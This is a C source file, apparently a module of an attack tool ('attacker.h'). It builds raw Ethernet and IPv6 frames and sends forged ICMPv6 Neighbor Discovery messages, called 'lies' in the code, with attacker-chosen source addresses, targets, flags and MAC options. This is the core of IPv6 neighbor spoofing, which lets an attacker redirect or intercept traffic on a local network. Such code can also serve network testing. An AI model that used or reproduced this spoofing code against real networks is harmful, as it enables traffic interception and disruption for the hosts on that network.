/* SPDX-License-Identifier: MIT */
/* Frames of IPv6, built by hand. */
#include "attacker.h"

#include "base/cksum.h"

u16 l4_cksum6(const struct ipv6_hdr *ip, uint8_t proto, const void *l4,
	      uint32_t len)
{
	u64 sum = be16(proto).raw + be16((u16)len).raw;

	sum = cksum_add(sum, &ip->src, 2 * sizeof(ip->src));
	return (u16)~cksum_fold(cksum_add(sum, l4, len));
}

uint8_t *build_ip6(const struct attack *a, uint8_t *frame, struct be128 src,
		   struct be128 dst, uint8_t proto, uint16_t len)
{
	struct eth_hdr *eth = (void *)frame;
	struct ipv6_hdr *ip = (void *)(eth + 1);

	memcpy(eth->dst, a->ix_mac, 6);
	memcpy(eth->src, a->mac, 6);
	eth->type = be16(ETH_TYPE_IPV6);
	*ip = (struct ipv6_hdr){
		.ver_class_flow = be32(6u << 28),
		.len = be16(len),
		.next = proto,
		.hops = IP_TTL,
		.src = src,
		.dst = dst,
	};
	return (void *)(ip + 1);
}

struct be128 solicited_node(struct be128 of)
{
	struct be128 group = { .b = { 0xff, 2, [11] = 1, 0xff } };

	memcpy(group.b + 13, of.b + 13, 3);
	return group;
}

void send_nd(struct attack *a, const struct nd_lie *lie)
{
	u16 len = ND_LEN + (lie->option ? ND_OPT_LEN : 0);
	u8 frame[128];
	struct nd_hdr *nd = (void *)build_ip6(a, frame, lie->src, lie->dst,
					      IP_PROTO_ICMP6, len);
	struct ipv6_hdr *ip = (void *)(frame + ETH_LEN);
	u8 *option = (u8 *)(nd + 1);

	ip->hops = ND_HOPS;
	if (lie->dst.b[0] == 0xff) {
		memcpy(frame, (u8[2]){ 0x33, 0x33 }, 2);
		memcpy(frame + 2, lie->dst.b + 12, 4);
	}
	*nd = (struct nd_hdr){ .type = lie->type,
			       .flags = be32(lie->flags),
			       .target = lie->target };
	if (lie->option) {
		option[0] = lie->option;
		option[1] = 1;
		memcpy(option + 2, lie->mac, 6);
	}
	nd->cksum = l4_cksum6(ip, IP_PROTO_ICMP6, nd, len);
	put(a, frame, ETH_LEN + IPV6_LEN + len);
}
